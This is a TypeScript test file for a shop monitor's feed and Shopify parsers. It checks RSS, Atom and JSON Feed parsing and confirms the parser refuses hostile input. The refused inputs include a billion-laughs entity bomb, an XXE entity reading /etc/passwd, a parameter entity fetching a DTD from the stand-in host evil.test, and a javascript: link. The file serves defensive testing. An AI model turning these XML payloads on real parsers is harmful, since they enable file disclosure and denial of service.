import { describe, expect, test } from 'vitest';
import type { ParsedPage } from '#tools/shop-monitor/server/redbubble/parse/page.ts';
import { parseFeed } from './feed.ts';
import { parseShopifyFacts, parseShopifyPage } from './shopify.ts';

const url = 'https://example.com/shop/feed';
const read = (text: string | Uint8Array, contentType = '') =>
  parseFeed({ bytes: typeof text === 'string' ? Buffer.from(text) : text, contentType, url });
const rss = (items: string, attributes = '') =>
  `<?xml version="1.0"?><rss version="2.0" ${attributes}><channel><title>Shop</title>${items}` +
  `</channel></rss>`;
const atom = (entries: string) =>
  `<feed xmlns="http://www.w3.org/2005/Atom"><title>Shop</title>${entries}</feed>`;
const json = (items: unknown) =>
  JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: 'Shop', items });
const item = (inner: string) =>
  rss(
    `<item><guid>a1</guid><title>Fox</title><link>https://example.com/fox</link>${inner}</item>`,
    'xmlns:media="http://search.yahoo.com/mrss/" xmlns:g="http://base.google.com/ns/1.0"' +
      ' xmlns:content="http://purl.org/rss/1.0/modules/content/"',
  );
const fox = { id: 'a1', url: 'https://example.com/fox', title: 'Fox', imageUrl: undefined, price: undefined };
const works = (page: ParsedPage) => (page.kind === 'works' ? page.works : expect.fail(JSON.stringify(page)));

const good: readonly (readonly [string, ParsedPage | (() => ParsedPage), object])[] = [
  ['RSS', read(item('')), fox],
  [
    'an enclosure',
    read(item('<enclosure url="/fox.png" type="image/png" length="1"/>')),
    { ...fox, imageUrl: 'https://example.com/fox.png' },
  ],
  ['an enclosure that is no picture', read(item('<enclosure url="/fox.mp3" type="audio/mpeg"/>')), fox],
  [
    'media:content',
    read(item('<media:content url="https://cdn.test/f.jpg" medium="image"/>')),
    { ...fox, imageUrl: 'https://cdn.test/f.jpg' },
  ],
  [
    'media in a group',
    read(item('<media:group><media:thumbnail url="https://cdn.test/t.jpg"/></media:group>')),
    { ...fox, imageUrl: 'https://cdn.test/t.jpg' },
  ],
  [
    'an image element',
    read(item('<image>https://cdn.test/i.jpg</image>')),
    { ...fox, imageUrl: 'https://cdn.test/i.jpg' },
  ],
  [
    'the first picture of the content',
    read(
      item(
        '<content:encoded><![CDATA[<p><img alt="x" src="https://cdn.test/c.jpg?a=1&amp;b=2"><img' +
          ' src="/2.jpg"></p>]]></content:encoded>',
      ),
    ),
    { ...fox, imageUrl: 'https://cdn.test/c.jpg?a=1&b=2' },
  ],
  [
    'an escaped description',
    read(item('<description>&lt;img src="https://cdn.test/d.jpg"&gt;</description>')),
    { ...fox, imageUrl: 'https://cdn.test/d.jpg' },
  ],
  ['a price', read(item('<g:price>12.50 USD</g:price>')), { ...fox, price: '12.50 USD' }],
  ['a price with a comma', read(item('<g:price>EUR 7,5</g:price>')), { ...fox, price: '7.50 EUR' }],
  [
    'another prefix',
    read(
      rss(
        '<item><guid>a1</guid><title>Fox</title><link>/fox</link><m:thumbnail url="/t.png"/></item>',
        'xmlns:m="http://search.yahoo.com/mrss/"',
      ),
    ),
    { ...fox, imageUrl: 'https://example.com/t.png' },
  ],
  [
    'no guid',
    read(rss('<item><link>https://example.com/fox</link></item>')),
    { url: 'https://example.com/fox', id: expect.stringMatching(/^[\w-]{43}$/) },
  ],
  [
    'a guid that is an address',
    read(rss('<item><guid>https://example.com/p/9</guid><title>Nine</title></item>')),
    { url: 'https://example.com/p/9', id: expect.stringMatching(/^[\w-]{43}$/) },
  ],
  [
    'a script for a link',
    read(rss('<item><guid>a1</guid><link>javascript:alert(1)</link></item>')),
    { id: 'a1', url: undefined },
  ],
  [
    'a title in CDATA',
    read(rss('<item><guid>a1</guid><title><![CDATA[Tom & <b>Jerry</b>]]></title></item>')),
    { title: 'Tom & Jerry' },
  ],
  ['a byte-order mark', read(`\uFEFF${item('')}`), fox],
  ['UTF-16', read(Buffer.from(`\uFEFF${item('')}`, 'utf16le')), fox],
  [
    'Latin 1, declared',
    read(
      Buffer.from(
        '<?xml version="1.0" encoding="ISO-8859-1"?><rss><channel><item><guid>1</guid>' +
          '<title>Caf\u00e9</title></item></channel></rss>',
        'latin1',
      ),
    ),
    { title: 'Caf\u00e9' },
  ],
  [
    'Latin 1 that says it is UTF-8',
    read(Buffer.from(rss('<item><guid>1</guid><title>Caf\u00e9</title></item>'), 'latin1')),
    { title: 'Caf\u00e9' },
  ],
  [
    'Atom',
    read(
      atom(
        '<entry><id>tag:example.com,2026:1</id><title type="html">A &lt;i&gt;Fox&lt;/i&gt;' +
          '</title><link rel="enclosure" type="image/jpeg" href="/f.jpg"/><link href="/fox"/></entry>',
      ),
    ),
    { title: 'A Fox', url: 'https://example.com/fox', imageUrl: 'https://example.com/f.jpg' },
  ],
  [
    'Atom with a prefix',
    read(
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:id>1</a:id><a:title>Fox' +
        '</a:title></a:entry></a:feed>',
    ),
    { id: '1', title: 'Fox' },
  ],
  [
    'RSS 1.0',
    read(
      '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"' +
        ' xmlns="http://purl.org/rss/1.0/"><item rdf:about="x"><title>Fox</title>' +
        '<link>https://example.com/fox</link></item></rdf:RDF>',
    ),
    { title: 'Fox' },
  ],
  [
    'JSON Feed',
    read(json([{ id: 7, title: 'Fox', url: '/fox', image: '/f.png' }])),
    {
      id: '7',
      title: 'Fox',
      url: 'https://example.com/fox',
      imageUrl: 'https://example.com/f.png',
      price: undefined,
    },
  ],
  [
    'JSON Feed with an attachment',
    read(json([{ id: 'a', attachments: [{ mime_type: 'image/png', url: '/f.png' }] }])),
    { id: 'a', imageUrl: 'https://example.com/f.png' },
  ],
];

const lol = (_value: unknown, index: number) =>
  `<!ENTITY lol${index + 1} "${`&lol${index || ''};`.repeat(10)}">`;
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, lol).join('')}]>`;
const bad: readonly (readonly [string, () => ParsedPage, RegExp])[] = [
  ['a billion laughs', () => read(laughs + rss('<item><guid>&lol9;</guid></item>')), /entities/],
  [
    'an external entity',
    () =>
      read(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rss('<item><guid>&x;</guid></item>')}`),
    /entities/,
  ],
  [
    'a parameter entity',
    () => read(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>${rss('')}`),
    /entities/,
  ],
  ['deep nesting', () => read(rss('<a>'.repeat(10_000) + '</a>'.repeat(10_000))), /open elements/],
  ['a million elements', () => read(rss('<a></a>'.repeat(1_000_000))), /tags/],
  [
    'a long attribute',
    () => read(item(`<enclosure type="image/png" url="https://e.test/${'a'.repeat(4_000_000)}"/>`)),
    /attribute/,
  ],
  ['100 MB in an attribute', () => read(Buffer.alloc(100_000_000, 'a')), /8 MB/],
  ['an end in the middle', () => read(item('').slice(0, -20)), /ends early/],
  ['JSON that ends early', () => read(json([{ id: 1 }]).slice(0, -5)), /broken/],
  ['deep JSON', () => read(`{"items":${'['.repeat(1_000_000)}`), /broken|no JSON Feed/],
  ['other JSON', () => read('{"products":[]}'), /no JSON Feed/],
  ['an unknown encoding', () => read('<?xml version="1.0" encoding="x-none"?><rss></rss>'), /encoding/],
  ['a web page', () => read('<!doctype html><html><body></body></html>'), /web page/],
  ['other XML', () => read('<urlset></urlset>'), /neither/],
  ['text', () => read('hello'), /neither/],
  ['nothing', () => read(''), /neither/],
  ['items without identity', () => read(rss('<item><title>Fox</title></item>')), /id or a link/],
  ['bytes', () => read(Buffer.from([0, 1, 2, 255])), /neither/],
];

describe('a corpus of feeds', () => {
  test.each(good)('%s', (_name, page, expected) => {
    expect(works(page as ParsedPage)[0]).toMatchObject(expected);
  });
  test.each(bad)('%s is refused', (_name, parse, reason) => {
    expect(parse()).toEqual({ kind: 'layout_changed', reason: expect.stringMatching(reason) });
  });
  test('a feed without items is empty, and 2,000 items are read', () => {
    expect(read(rss('')).kind).toBe('empty');
    expect(
      works(
        read(
          rss(
            Array.from({ length: 2_500 }, (_value, index) => `<item><guid>${index}</guid></item>`).join(''),
          ),
        ),
      ),
    ).toHaveLength(2_000);
  });
});

describe('a corpus of Shopify pages', () => {
  const facts = { count: undefined, currency: 'USD' };
  const page = (text: string) => parseShopifyPage(Buffer.from(text), 'https://shop.test', facts);
  const products = (list: unknown) => page(JSON.stringify({ products: list }));
  const product = {
    id: 632910392,
    title: 'Fox <b>',
    handle: 'fox',
    variants: [{ price: '12.00' }],
    images: [{ src: '//cdn.test/f.jpg' }],
  };

  test('a product', () => {
    expect(works(products([product]))).toEqual([
      {
        id: '632910392',
        url: 'https://shop.test/products/fox',
        title: 'Fox <b>',
        imageUrl: 'https://cdn.test/f.jpg',
        price: '12.00 USD',
      },
    ]);
    expect(works(products([{ handle: 'only-handle' }]))[0]?.id).toBe('only-handle');
    const unpriced = parseShopifyPage(
      Buffer.from(JSON.stringify({ products: [product] })),
      'https://shop.test',
      { count: 3, currency: undefined },
    );
    expect(unpriced).toMatchObject({ works: [{ price: '12.00' }], resultCount: 3, totalPages: 1 });
  });
  test.each([
    ['no products', '{"products":[]}', { kind: 'empty' }],
    ['a web page', '<html>', { kind: 'layout_changed' }],
    ['a list of something else', '{"products":[1,null,"x",{"id":"../../x"}]}', { kind: 'layout_changed' }],
    ['an end in the middle', '{"products":[{"id":1}', { kind: 'layout_changed' }],
    ['other types', '{"products":{"id":1}}', { kind: 'layout_changed' }],
  ])('%s', (_name, text, expected) => {
    expect(page(text)).toMatchObject(expected);
  });
  test('what a shop says of itself is read, and nonsense is nothing', () => {
    const factsOf = (text: string) => parseShopifyFacts(Buffer.from(text));
    expect(factsOf('{"published_products_count":12,"currency":"EUR"}')).toEqual({
      count: 12,
      currency: 'EUR',
    });
    expect(factsOf('{"published_products_count":-1,"currency":"euros"}')).toEqual({
      count: undefined,
      currency: undefined,
    });
    expect(factsOf('<html>')).toEqual({ count: undefined, currency: undefined });
  });
});
